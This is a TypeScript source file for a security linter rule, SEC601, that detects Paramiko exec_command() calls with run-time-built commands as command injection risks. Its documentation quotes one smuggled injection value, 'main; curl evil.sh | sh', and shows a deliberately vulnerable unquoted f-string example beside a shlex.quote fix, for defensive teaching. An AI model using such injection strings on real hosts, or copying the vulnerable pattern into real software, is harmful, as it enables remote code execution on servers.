import type { Node } from '../../engine/parser';
import { defineRule, type RuleContext } from '../../engine/rule';
import { valuesBefore } from '../../engine/scope';
import { argument, callArgs, dottedName, unparen } from '../../engine/syntax';
import { analyseCommand, describeSources } from '../util/process';

const CLIENT_FACTORIES = new Set(['paramiko.SSHClient', 'paramiko.client.SSHClient']);
const CHANNEL_FACTORIES = new Set(['open_session', 'open_channel', 'get_transport']);

/** Whether `receiver` is known to be a paramiko client or channel (not merely "some object"). */
function isParamikoObject(receiver: Node, ctx: RuleContext, depth = 0): boolean {
  const r = unparen(receiver);
  if (r.type === 'call') {
    if (CLIENT_FACTORIES.has(ctx.callName(r) ?? '')) return true;
    // `client.get_transport().open_session().exec_command(...)`
    const fn = r.childForFieldName('function');
    const object = fn?.type === 'attribute' ? fn.childForFieldName('object') : null;
    return !!object && depth < 4 && CHANNEL_FACTORIES.has(fn!.childForFieldName('attribute')?.text ?? '') && isParamikoObject(object, ctx, depth + 1);
  }
  if (r.type === 'identifier' && depth < 4) return valuesBefore(r, ctx).some((v) => isParamikoObject(v, ctx, depth + 1));
  return false;
}

export default defineRule({
  id: 'SEC601',
  name: 'paramiko-exec-command',
  local: true,
  summary: 'Paramiko `exec_command()` runs a command built at run time in the remote shell',
  owasp: { '2025': 'A05', '2021': 'A03' },
  cwe: [78],
  severity: 'error',
  confidence: 'high',
  aliases: ['B601', 'S601'],
  tags: ['injection', 'paramiko', 'ssh'],
  nodeTypes: ['call'],
  appliesTo: (_file, facts) => facts.importedModules.has('paramiko'),
  check(call, ctx) {
    const fn = call.childForFieldName('function');
    if (fn?.type !== 'attribute' || fn.childForFieldName('attribute')?.text !== 'exec_command') return;
    const receiver = fn.childForFieldName('object');
    if (!receiver) return;
    const args = callArgs(call);
    const command = argument(args, 0, 'command');
    if (!command) return;
    const info = analyseCommand(command, ctx, false);
    // A constant command cannot be injected.
    if (info.kind === 'constant') return;
    // The file imports paramiko; a receiver we can trace to `SSHClient()` is certain, any other
    // `exec_command` (a `self.client`, a parameter) very probably is one.
    const known = isParamikoObject(receiver, ctx) || ctx.resolve(fn) === 'paramiko.exec_command';
    const what = `\`${(dottedName(receiver) ?? 'client').replace(/\s+/g, '')}.exec_command()\``;
    if (info.kind === 'quoted') {
      ctx.report(fn, { message: `${what} runs a command in the remote shell (its interpolated values are quoted or numeric)`, severity: 'info', confidence: 'low' });
      return;
    }
    ctx.report(fn, {
      message: `${what} runs a command built from ${describeSources(info.sources)} in the remote shell`,
      confidence: known ? 'high' : 'medium',
    });
  },
  docs: {
    what: `In files that import \`paramiko\`, finds \`exec_command()\` calls (on an \`SSHClient\` or a channel) whose command is not a constant: an f-string, concatenation, \`%\` or \`.format()\` with a non-constant value, or a name that is not bound to a constant. Confidence is high when the receiver is traced to \`paramiko.SSHClient()\` (or a channel opened from one), medium otherwise. A command whose interpolated values all go through \`shlex.quote\` or a number conversion is information with low confidence; constant commands are not reported. \`invoke_shell()\` takes no command and is not reported (what is later sent to the channel is not followed).`,
    why: `The SSH server runs the command string with the remote user's login shell, exactly like \`os.system\` on that host: a host name, file name or branch name such as \`main; curl evil.sh | sh\` runs the attacker's commands on the remote machine, usually a server the application has privileged access to.`,
    example: `import paramiko

def tail_log(host: str, service: str):
    client = paramiko.SSHClient()
    client.load_system_host_keys()
    client.connect(host)
    _, stdout, _ = client.exec_command(f"journalctl -u {service} -n 100")
    return stdout.read()`,
    useInstead: `import shlex

import paramiko

def tail_log(host: str, service: str):
    client = paramiko.SSHClient()
    client.load_system_host_keys()
    client.connect(host)
    _, stdout, _ = client.exec_command(f"journalctl -u {shlex.quote(service)} -n 100")
    return stdout.read()`,
    references: [
      { title: 'Paramiko: SSHClient.exec_command', url: 'https://docs.paramiko.org/en/stable/api/client.html#paramiko.client.SSHClient.exec_command' },
      { title: 'OWASP OS Command Injection Defense Cheat Sheet', url: 'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html' },
      { title: 'Bandit B601: paramiko_calls', url: 'https://bandit.readthedocs.io/en/latest/plugins/b601_paramiko_calls.html' },
    ],
  },
});
